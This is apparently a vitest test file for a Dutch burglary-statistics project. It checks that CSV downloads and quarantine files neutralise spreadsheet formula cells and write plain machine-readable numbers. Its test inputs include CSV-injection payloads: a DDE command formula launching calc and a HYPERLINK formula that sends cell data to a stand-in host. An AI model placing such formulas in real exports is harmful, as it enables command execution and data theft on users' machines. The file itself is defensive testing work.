// Formula-safe CSV (issue 12): every CSV the project writes (downloads via csvText, the quarantine)
// neutralises text cells a spreadsheet would run as a formula, and leaves numbers numbers.
import {mkdtempSync, readFileSync, readdirSync, writeFileSync} from "node:fs";
import {tmpdir} from "node:os";
import {join} from "node:path";
import {dsvFormat} from "d3-dsv";
import {describe, expect, test} from "vitest";
import {writeQuarantine} from "../../../loaders/delivery/quarantine.js";
import {readDelivery} from "../../../loaders/delivery/read.js";
import {csvField, csvText, isFormulaText, machineRows, parseDisplayNumber, plainNumber} from "../../../src/lib/csv.js";

const ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1;"klik")', "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "-", "+31 6 1234"];

describe("csvField / csvText", () => {
  test("text starting with = + - @ tab or CR gets a leading quote and is quoted", () => {
    for (const attack of ATTACKS) {
      expect(isFormulaText(attack)).toBe(true);
      expect(csvField(attack)).toBe(`"'${attack.replace(/"/g, '""')}"`);
    }
    expect(csvText([{werkwijze: "=cmd|' /C calc'!A0", n: 5}])).toBe(`werkwijze;n\n"'=cmd|' /C calc'!A0";5\n`);
  });

  test("numbers, plain numeric text, dates, booleans and harmless text stay as they are", () => {
    expect(csvText([{a: -3, b: -0.25, c: "-12", d: "+3,5", e: new Date(Date.UTC(2024, 0, 2)), f: true, g: "a=b", h: "x;y", i: null}])).toBe(
      'a;b;c;d;e;f;g;h;i\n-3;-0.25;-12;+3,5;2024-01-02;true;a=b;"x;y";\n'
    );
    for (const text of ["-12", "+3,5", "-.5", "raam", " =spatie eerst", "€ 5"]) expect(isFormulaText(text)).toBe(false);
  });

  test("a neutralised cell reads back as its text with the quote, one cell per field", () => {
    const text = csvText(ATTACKS.map((a) => ({t: a, n: -1})));
    const back = dsvFormat(";").parse(text);
    expect(back.map((r) => r.t)).toEqual(ATTACKS.map((a) => `'${a}`));
    expect(back.map((r) => r.n)).toEqual(ATTACKS.map(() => "-1"));
  });
});

describe("the quarantine CSV", () => {
  test("carries rejected formula cells neutralised, negative numbers as numbers", () => {
    const dir = mkdtempSync(join(tmpdir(), "inbraaklab-csvq-"));
    writeFileSync(join(dir, "inbraken.csv"), [
      "registratienummer;soort;pleegdatum_van;gemeentecode;x;y;werkwijze",
      "R1;inbraak;2024-01-05;GM0153;;;raam",
      `R2;=cmd|' /C calc'!A0;2024-01-05;GM0153;;;"=HYPERLINK(""http://x.example"")"`,
      "R3;inbraak;2024-01-05;GM0153;-12;471500;@SUM(A1)"
    ].join("\n"));
    const q = join(mkdtempSync(join(tmpdir(), "inbraaklab-csvq-out-")), "q");
    writeQuarantine(readDelivery(dir, {maxRejectShare: 1}), q);
    expect(readdirSync(q).sort()).toEqual([".inbraaklab-quarantaine", "inbraken.csv"]);
    const text = readFileSync(join(q, "inbraken.csv"), "utf8");
    const rows = dsvFormat(";").parseRows(text);
    expect(rows[1]).toEqual(["3", "soort", "'=cmd|' /C calc'!A0", "ongeldige_soort", expect.any(String), "R2", "'=cmd|' /C calc'!A0", "2024-01-05", "GM0153", "", "", "'=HYPERLINK(\"http://x.example\")"]);
    expect(rows[2].slice(0, 4)).toEqual(["4", "x", "'-12, 471500", "coordinaten_buiten_nederland"]); // text, not a number
    expect(rows[2].slice(9)).toEqual(["-12", "471500", "'@SUM(A1)"]);
    for (const row of rows) for (const cell of row) expect(isFormulaText(cell)).toBe(false);
  });
});

describe("machine-readable downloads (issue 14, item 5)", () => {
  // The row of the issue: thousands dot, Unicode minus and percent, a decimal point, a lower bound.
  const rows = [
    {gemeente: "Enschede", aantal: "1.728", verandering: "−13%", per_1000_woningen: 22.42, vorig_jaar: "≥ 210", code: "0153"},
    {gemeente: "Losser", aantal: "verborgen", verandering: "–", per_1000_woningen: 3.5, vorig_jaar: "12", code: "0168"}
  ];
  const text = csvText(machineRows(rows, {per_1000_woningen: "per 1.000 woningen"}));
  const back = dsvFormat(";").parse(text);

  test("numbers are plain: decimal comma, ASCII minus, no thousands separator, no percent sign", () => {
    expect(text.split("\n")[1]).toBe("Enschede;1728;;-13;;22,42;210;ondergrens;0153");
    for (const row of back) for (const [key, value] of Object.entries(row)) {
      if (key.endsWith("_vlag") || key === "gemeente" || key === "code" || !value) continue;
      expect(value, `${key}=${value}`).toMatch(/^-?\d+(,\d+)?$/);
    }
  });

  test("the header names the units; bounds and hidden values get their own flag column", () => {
    expect(back.columns).toEqual(["gemeente", "aantal", "aantal_vlag", "verandering (%)", "verandering_vlag", "per_1000_woningen (per 1.000 woningen)", "vorig_jaar", "vorig_jaar_vlag", "code"]);
    expect(back.map((r) => [r.aantal, r.aantal_vlag, r.verandering_vlag, r.vorig_jaar_vlag])).toEqual([["1728", "", "", "ondergrens"], ["", "verborgen", "geen waarde", ""]]);
  });

  test("parseDisplayNumber reads Dutch display numbers and refuses other text", () => {
    expect(parseDisplayNumber("≥ 1.210")).toEqual({value: 1210, flag: "ondergrens", percent: false});
    expect(parseDisplayNumber("12,5%")).toEqual({value: 12.5, flag: null, percent: true});
    expect(parseDisplayNumber("< 5")).toEqual({value: 5, flag: "bovengrens", percent: false});
    for (const t of ["Enschede", "2024-03", "GM0153", "0153", "1,2,3"]) expect(parseDisplayNumber(t)).toBeUndefined();
    expect(plainNumber(-0.5)).toBe("-0,5");
    expect(plainNumber(1e-7)).toBe("0,0000001");
  });
});
